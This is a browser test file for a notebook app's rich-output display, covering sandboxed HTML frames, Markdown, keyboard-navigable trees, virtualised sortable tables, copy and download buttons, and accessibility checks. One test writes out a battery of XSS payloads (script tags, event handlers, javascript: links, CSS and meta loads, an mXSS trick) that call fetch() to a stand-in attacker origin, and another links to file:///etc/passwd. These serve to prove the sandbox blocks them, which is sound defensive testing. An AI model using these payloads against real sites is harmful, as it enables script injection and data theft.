// What programs display: HTML in a frame that can do nothing, pictures, Markdown, trees and tables.

import assert from "node:assert/strict";
import { mkdir, readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { after } from "node:test";
import { App } from "./support/app.mjs";
import { inBrowsers } from "./support/browsers.mjs";
import { startServer } from "./support/server.mjs";

const server = await startServer();
// Another origin, which hears of every request that comes out.
const enemy = await startServer(undefined, { cors: true });
after(() => Promise.all([server.close(), enemy.close()]));
const axe = await readFile(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const pictures = new URL("screenshots/", import.meta.url).pathname;
await mkdir(pictures, { recursive: true });

const dot = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

/** The frames that show HTML, once they have something in them. */
async function frames(page, count) {
  await page.waitForFunction((count) => [...document.querySelectorAll(".rich-html")].filter((frame) => frame.style.height).length === count, {}, count);
  const shown = [];
  for (const element of await page.$$(".rich-html")) shown.push(await element.contentFrame());
  return shown;
}

const texts = (page, selector) => page.$$eval(selector, (found) => found.map((element) => element.textContent));

inBrowsers("each value is shown by its richest form, in order with the text", async ({ page }) => {
  const app = await App.open(page, server.url);
  const status = await app.finishes(`from vivarium import display
class Both:
    def __repr__(self): return "both"
    def _repr_html_(self): return "<b style='color: red'>bold</b>"
    def _repr_png_(self): return b"never"
class Drawn:
    def _repr_svg_(self): return "<svg xmlns='http://www.w3.org/2000/svg' width='8' height='4'><circle r='2' onload='x'/></svg>"
    def __repr__(self): return "a circle"
class Data:
    def _repr_json_(self): return {"a": [1, {"b": None}]}
class Bundle:
    def _repr_mimebundle_(self, include=None, exclude=None): return {"text/markdown": "# Title\\n\\n* one"}, {}
class Odd:
    def _repr_mimebundle_(self): return {"application/x-odd": "?"}
    def __repr__(self): return "odd"
print("first")
display(Both())
print("second")
for value in (Drawn(), Data(), Bundle(), Odd()):
    display(value)
display(Both)
print("last")
`);
  assert.match(status, /^Finished/, await app.output());
  await frames(page, 2);
  assert.deepEqual(
    await page.$$eval(".log .chunk", (chunks) => chunks.map((chunk) => chunk.querySelector("iframe, img, [role=tree]")?.tagName ?? chunk.textContent)),
    ["first\n", "IFRAME", "second\n", "IMG", "UL", "IFRAME", "odd\n", "<class '__main__.Both'>\nlast\n"],
  );
  const [bold, markdown] = await frames(page, 2);
  assert.equal(await bold.$eval("b", (b) => `${b.textContent} ${getComputedStyle(b).color}`), "bold rgb(255, 0, 0)");
  assert.equal(await markdown.$eval("body", ({ children: [title, list] }) => `${title.tagName} ${title.textContent} ${list.textContent.trim()}`), "H1 Title one");
  assert.deepEqual(await page.$eval(".log img", (img) => [img.alt, img.naturalWidth]), ["a circle", 8]);
});

inBrowsers("the value of the last expression is shown by its richest form, once", async ({ page }) => {
  const app = await App.open(page, server.url);
  const html = 'class Html:\n    def _repr_html_(self): return "<i>rich</i>"\n    def __repr__(self): return "plain"\n';
  await app.finishes(`${html}Html()\n`);
  const [frame] = await frames(page, 1);
  assert.equal(await frame.$eval("i", (i) => i.textContent), "rich");
  assert.equal(await page.$(".log .result"), null);
  await app.finishes(`${html}[Html()]\n`);
  assert.match(await app.output(), /\[plain\]/);
});

inBrowsers("hostile HTML reaches neither the page nor the network", async ({ page }) => {
  const app = await App.open(page, server.url);
  const there = enemy.url;
  const steal = (name) => `top.canary = '${name}'; globalThis.canary = '${name}'; fetch('${there}${name}')`;
  const html = `<p id=safe>safe</p>
<script>${steal("script")}</script><script src="${there}src.js"></script>
<img src=x onerror="${steal("onerror")}"><img src="${there}img.png" srcset="${there}set.png 2x">
<svg onload="${steal("svg")}"><image href="${there}svg.png"/><script>${steal("svgscript")}</script><a href="javascript:${steal("svglink")}"><text id=svglink y=9>x</text></a></svg>
<meta http-equiv=refresh content="0;url=${there}meta"><base href="${there}"><link rel=stylesheet href="${there}sheet.css"><link rel=prefetch href="${there}prefetch">
<style>@import url(${there}import.css); body { background: url(${there}background.png) } @font-face { font-family: f; src: url(${there}font) } p { font-family: f }</style>
<p style="background: url(${there}style.png)">styled</p>
<iframe src="${there}frame" srcdoc="<script>${steal("srcdoc")}</script>"></iframe><object data="${there}object"></object><embed src="${there}embed">
<video src="${there}video" poster="${there}poster" autoplay></video><audio src="${there}audio" autoplay></audio>
<form action="${there}form" target=_top><input name=q value=1><button id=send formaction="${there}formaction">Send</button></form>
<input autofocus onfocus="${steal("focus")}"><details open ontoggle="${steal("toggle")}"><summary>x</summary></details>
<a id=code href="javascript:${steal("link")}">code</a> <a id=data href="data:text/html,<script>1</script>">data</a>
<template><img src=x onerror="${steal("template")}"></template><noscript><p title="</noscript><img src=x onerror=${steal("mxss")}>"></noscript>
<img id=last src="data:image/gif;base64,${dot}">`;
  await app.finishes(`from vivarium import display\ndisplay(${JSON.stringify(html)}, "text/html")\ndisplay(${JSON.stringify(`# Hi\n\n${html}\n\n[code](javascript:top.canary=1)`)}, "text/markdown")\nprint("shown")`);
  const before = await page.url();
  for (const frame of await frames(page, 2)) {
    await frame.waitForFunction(() => document.querySelector("#last").complete && document.querySelector("#safe"), { polling: 50 });
    for (const id of ["send", "code", "data", "svglink"]) {
      await frame.$eval(`#${id}`, (element) => element.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })));
    }
    await frame.click("#send");
    assert.equal(await frame.evaluate(() => globalThis.canary), undefined);
    assert.deepEqual(await frame.$$eval("body script, body meta, base, link, iframe, [onerror], [onload], [onfocus], [ontoggle]", (found) => found.map((element) => element.tagName)), []);
    assert.equal(await frame.evaluate(() => globalThis.origin), "null");
    // The wall behind the sweeping: what gets into the frame by another way is not loaded, either.
    const asked = await frame.evaluate(
      (there) =>
        Promise.allSettled([
          fetch(`${there}wall-fetch`),
          new Promise((load, refuse) => document.body.append(Object.assign(new Image(), { onload: load, onerror: refuse, src: `${there}wall-image` }))),
        ]).then((results) => results.map(({ status }) => status)),
      there,
    );
    assert.deepEqual(asked, ["rejected", "rejected"]);
  }
  assert.equal(await page.evaluate(() => globalThis.canary), undefined);
  assert.equal(page.url(), before);
  // The detector works: what the page itself asks is heard, and it is all that is.
  await page.evaluate((there) => fetch(`${there}control`), there);
  assert.deepEqual(enemy.requests.splice(0), ["/some/sub/path/control"]);
});

inBrowsers("a link of the program opens a window of its own, and only the web", async ({ page }) => {
  const app = await App.open(page, server.url);
  const html = `<a id=web href="${server.url}LICENSES.txt">the licences</a> <a id=odd href="file:///etc/passwd">odd</a> <a id=here href="#there">here</a><p id=there>there</p>`;
  await app.finishes(`from vivarium import display\ndisplay('''${html}''', "text/html")`);
  const [frame] = await frames(page, 1);
  for (const id of ["odd", "here"]) await frame.click(`#${id}`);
  await frame.click("#web");
  const target = await page.browserContext().waitForTarget((target) => target.url().endsWith("LICENSES.txt"));
  const other = await target.page();
  assert.equal(await other.evaluate(() => globalThis.opener), null);
  assert.equal((await page.browserContext().pages()).filter((open) => open.url().startsWith(server.url)).length, 2);
});

inBrowsers("a table is sorted by its headers, and only its rows in sight are elements", async ({ page }) => {
  const app = await App.open(page, server.url);
  await app.finishes(`import vivarium
vivarium.display(vivarium.table([{"n": n * 7919 % 20_000, "name": f"row {n}", "none": None} for n in range(20_000)]))
vivarium.display([{"a": 2}, {"a": 10}])
vivarium.table([["x", "y"], [1, 2]])
`);
  await page.waitForSelector(".rich-table");
  const first = () => page.$$eval(".rich-table:first-of-type tbody tr:not(.space)", (rows) => [rows[0].textContent, rows.length]);
  const [top, drawn] = await page.$eval(".rich-table", (table) => {
    const rows = [...table.querySelectorAll("tbody tr:not(.space)")];
    return [rows[0].textContent, rows.length];
  });
  assert.equal(top, "0row 0");
  assert.ok(drawn < 100, `${drawn} rows are elements`);
  const sort = await page.$(".rich-table .sort");
  await sort.focus();
  await page.keyboard.press("Enter");
  assert.equal(await page.$eval(".rich-table th", (th) => th.getAttribute("aria-sort")), "ascending");
  assert.equal(await page.$eval(".rich-table tbody tr:nth-child(3)", (row) => row.cells[0].textContent), "1");
  await page.keyboard.press("Enter");
  assert.equal(await page.$eval(".rich-table tbody tr:not(.space)", (row) => row.cells[0].textContent), "19999");
  // To the end, as a person would.
  await page.focus(".rich-table");
  await page.keyboard.press("End");
  await page.waitForFunction(() => [...document.querySelectorAll(".rich-table tbody tr:not(.space)")].filter((row) => row.closest(".rich-table") === document.querySelector(".rich-table")).at(-1).cells[0].textContent === "0");
  assert.deepEqual(await texts(page, ".rich-tools .label"), ["20,000 rows, 3 columns", "2 rows, 1 column", "1 row, 2 columns"]);
  assert.ok((await first())[1] >= 2);
});

inBrowsers("a tree is read by keyboard", async ({ page }) => {
  const app = await App.open(page, server.url);
  await app.finishes(`from vivarium import display\ndisplay({"name": "Ada", "list": list(range(250)), "inner": {"deep": [True, None]}})`);
  await page.waitForSelector("[role=tree]");
  const focused = () => page.evaluate(() => document.activeElement.querySelector(".line").textContent);
  await page.focus("[role=tree] [tabindex='0']");
  const press = async (...keys) => {
    for (const key of keys) await page.keyboard.press(key);
    return focused();
  };
  assert.equal(await press("ArrowDown", "ArrowDown"), '"list": [250]');
  assert.equal(await press("ArrowRight", "ArrowRight"), "0: 0");
  assert.equal(await press("ArrowLeft"), '"list": [250]');
  assert.equal(await press("End"), '"inner": {1}');
  assert.equal(await press("ArrowUp"), "150 more");
  assert.equal(await press("Enter"), "100: 100");
  assert.equal(await press("Home", "ArrowLeft"), "{3}");
  assert.equal(await page.$eval("[role=tree] > [role=treeitem]", (root) => root.getAttribute("aria-expanded")), "false");
});

inBrowsers("each value can be copied and downloaded", async ({ page, browserName }) => {
  const app = await App.open(page, server.url);
  await app.finishes(`import vivarium\nvivarium.display([{"a": 1, "b": "x,y"}])\nvivarium.display("<b>bold</b>", "text/html")`);
  await frames(page, 1);
  await page.evaluate(() => {
    globalThis.copied = [];
    globalThis.saved = [];
    Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text) => void copied.push(text) } });
    addEventListener("click", (event) => event.target.download && saved.push(event.target.download), true);
  });
  for (const tools of await page.$$(".rich-tools")) for (const button of await tools.$$("button")) await button.click();
  await page.waitForFunction(() => copied.length === 2);
  assert.deepEqual(await page.evaluate(() => copied), ['a,b\r\n1,"x,y"\r\n', "<b>bold</b>"], browserName);
});

inBrowsers("colours and redrawn lines look as on a terminal, and are copied as text", async ({ page }) => {
  const app = await App.open(page, server.url);
  await app.finishes(`import sys, time
print("\\x1b[1;31mred\\x1b[0m plain")
for done in range(101):
    print(f"\\r{done:3}% \\x1b[32m{'#' * (done // 10)}\\x1b[0m", end="", flush=True)
    time.sleep(0.001)
print()
print("first\\nsecond\\x1b[A\\rFIRST")
`);
  await app.shows("FIRST");
  const shown = await page.waitForFunction(() => {
    const spans = [...document.querySelectorAll(".log span")].filter((span) => span.shadowRoot);
    return spans.length > 0 && spans.map((span) => span.shadowRoot.textContent).join("");
  });
  assert.equal(await shown.jsonValue(), "red plain\n100% ##########\nFIRST\nsecond");
  assert.equal(
    await page.evaluate(() => {
      const red = [...document.querySelectorAll(".log span")].find((span) => span.shadowRoot).shadowRoot.querySelector(".bold");
      return `${red.textContent} ${getComputedStyle(red).color}`;
    }),
    "red rgb(160, 47, 28)",
  );
  await page.evaluate(() => Object.defineProperty(navigator, "clipboard", { value: { writeText: async (text) => void (globalThis.copied = text) } }));
  await page.evaluate(() => [...document.querySelectorAll(".output .pane-head button")].find((button) => button.textContent === "Copy").click());
  await page.waitForFunction(() => globalThis.copied);
  assert.equal(await page.evaluate(() => copied), "red plain\n100% ##########\nFIRST\nsecond");
});

const everything = `import vivarium
from vivarium import display
print("Text, then what is more than text:")
display("<h3>A report</h3><table><tr><th>name</th><th>score</th></tr><tr><td>Ada</td><td>12</td></tr><tr><td>Grace</td><td>9</td></tr></table><p>with a <a href='https://example.org'>link</a></p>", "text/html")
display("<p style='color: #333'>Made for white paper</p>", "text/html")
display("**Markdown** with \`code\`, and:\\n\\n1. one\\n2. two\\n\\n> said", "text/markdown")
display("<svg xmlns='http://www.w3.org/2000/svg' width='160' height='60'><rect width='160' height='60' rx='8' fill='#4f9a63'/></svg>", "image/svg+xml")
display({"name": "Ada", "born": 1815, "tags": ["first", None, True]})
vivarium.table([{"city": name, "people": count} for name, count in [("Tokyo", 37_400_068), ("Delhi", 28_514_000), ("Shanghai", 25_582_000), ("Cairo", 20_076_000)]])
`;

for (const [size, viewport] of Object.entries({ desktop: { width: 1280, height: 800 }, phone: { width: 390, height: 844 } })) {
  inBrowsers(
    `rich output is open to everyone (${size})`,
    async ({ page, browserName }) => {
      const app = await App.open(page, server.url);
      await app.finishes(everything);
      await frames(page, 3);
      await page.waitForSelector(".rich-table");
      await page.evaluate(axe);
      for (const theme of ["light", "dark"]) {
        await page.evaluate((theme) => (document.documentElement.dataset.theme = theme), theme);
        const { violations } = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ["violations"] }));
        assert.deepEqual(violations.map(({ id, nodes }) => `${theme}: ${id} at ${nodes.map(({ html }) => html.slice(0, 120)).join(" | ")}`), []);
        for (const [part, top] of [["top", 0], ["end", 1e6]]) {
          await page.$eval(".log-scroller", (scroller, top) => scroller.scrollTo(0, top), top);
          await page.screenshot({ path: `${pictures}${size}-rich-${part}-${browserName}-${theme}.png` });
        }
        const wider = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        assert.ok(wider <= 0, `${wider} px wider than the screen`);
      }
    },
    { viewport },
  );
}
